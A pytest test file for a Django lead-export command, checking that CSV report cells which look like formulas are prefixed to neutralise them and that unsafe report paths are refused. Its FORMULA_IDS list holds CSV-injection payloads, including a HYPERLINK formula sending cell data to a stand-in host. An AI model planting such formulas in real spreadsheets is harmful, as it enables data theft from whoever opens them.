"""The rejected-leads report of export_leads: spreadsheet-safe CSV cells, and a report path that can harm nothing."""

import csv
import json
import os
from io import StringIO

import pytest
from django.core.management import CommandError, call_command

from berinia_sync.models import BeriniaLead
from berinia_sync.reports import LeadReport
from berinia_sync.services import LeadOutcome
from tests.berinia_sync.conftest import BERINIA_DB, run_export
from tests.berinia_sync.factories import infra_lead

pytestmark = pytest.mark.django_db(databases=BERINIA_DB)
# Cells a spreadsheet would run as formulas (or commands, via DDE) if written as they are.
FORMULA_IDS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+SUM(1,2)", "-2+3", "@SUM(1,2)", "\tcmd", "\rcmd"]
MISSING_EMAIL = "missing_email: the lead has no e-mail address (none is ever invented)."


@pytest.fixture
def leads_file(tmp_path, campaign):
    """One good lead, then one lead without e-mail per formula payload in its id."""
    path = tmp_path / "leads.jsonl"
    leads = [infra_lead(0, campaign.pk)] + [
        infra_lead(n, campaign.pk, id=payload, email="") for n, payload in enumerate(FORMULA_IDS, start=1)
    ]
    path.write_text("".join(json.dumps(lead) + "\n" for lead in leads))
    return path


def test_csv_cells_that_start_like_a_formula_are_neutralised(tmp_path, leads_file):
    report = tmp_path / "rejected.csv"

    code, _ = run_export(str(leads_file), "--report", str(report))

    assert code == 3
    with report.open(newline="", encoding="utf-8") as file:
        header, good, *rows = list(csv.reader(file))
    assert header == ["position", "id", "outcome", "berinia_lead_id", "matched_on", "merged_into", "reason"]
    assert good[2] == "inserted"
    assert [row[1] for row in rows] == ["'" + payload for payload in FORMULA_IDS]
    assert all(row[2] == "rejected" and row[6] == MISSING_EMAIL for row in rows)


def test_every_text_cell_is_neutralised_and_plain_ones_are_kept(tmp_path):
    path = tmp_path / "r.csv"
    report = LeadReport(str(path))
    report(LeadOutcome(1, "lead-1", None, "rejected", "-reason from the input", "", "", None))
    report(LeadOutcome(2, "=1+1", None, "rejected", "@x", "", "", None))
    report(LeadOutcome(3, "ok", 7, "updated", "", "", "", None, "phone"))
    report.close()

    with path.open(newline="", encoding="utf-8") as file:
        assert list(csv.reader(file))[1:] == [
            ["1", "lead-1", "rejected", "", "", "", "'-reason from the input"],
            ["2", "'=1+1", "rejected", "", "", "", "'@x"],
            ["3", "ok", "updated", "7", "phone", "", ""],
        ]


def test_a_json_report_keeps_the_values_as_they_are(tmp_path, leads_file):
    report = tmp_path / "rejected.json"

    run_export(str(leads_file), "--report", str(report))

    entries = json.loads(report.read_text(encoding="utf-8"))
    assert [entry["id"] for entry in entries if entry["outcome"] == "rejected"] == FORMULA_IDS


@pytest.mark.parametrize("alias", ["same", "other spelling", "symlink", "hard link"])
def test_a_report_path_that_is_the_input_is_refused_and_the_input_kept(tmp_path, leads_file, alias, monkeypatch):
    original = leads_file.read_bytes()
    leads = leads_file.rename(tmp_path / "leads.csv")  # an extension a report may have
    (tmp_path / "sub").mkdir()
    monkeypatch.chdir(tmp_path)
    if alias == "symlink":
        (tmp_path / "link.csv").symlink_to(leads)
    elif alias == "hard link":
        os.link(leads, tmp_path / "hard.csv")
    report = {"same": str(leads), "other spelling": "sub/../leads.csv", "symlink": "link.csv", "hard link": "hard.csv"}

    with pytest.raises(CommandError, match="is the input file") as refused:
        call_command("export_leads", "leads.csv", "--report", report[alias], "--force", stdout=StringIO())

    assert "\n" not in str(refused.value)
    assert leads.read_bytes() == original
    assert not BeriniaLead.objects.exists()


def test_an_existing_report_is_kept_without_force_and_replaced_with_it(tmp_path, leads_file):
    report = tmp_path / "rejected.csv"
    report.write_text("last week's report\n")

    with pytest.raises(CommandError, match=r"already exists; give --force to replace it"):
        call_command("export_leads", str(leads_file), "--report", str(report), stdout=StringIO())
    assert report.read_text() == "last week's report\n"
    assert not BeriniaLead.objects.exists()

    code, _ = run_export(str(leads_file), "--report", str(report), "--force")

    assert code == 3
    assert report.read_text().startswith("position,id,outcome,berinia_lead_id,matched_on,merged_into,reason")


@pytest.mark.parametrize("name", ["rejected.txt", "rejected", "rejected.xlsx"])
def test_a_report_of_an_unknown_kind_is_refused_naming_the_allowed_ones(tmp_path, leads_file, name):
    with pytest.raises(CommandError, match=r"\.csv, \.json") as refused:
        call_command("export_leads", str(leads_file), "--report", str(tmp_path / name), stdout=StringIO())

    assert "\n" not in str(refused.value)
    assert not (tmp_path / name).exists()
    assert not BeriniaLead.objects.exists()
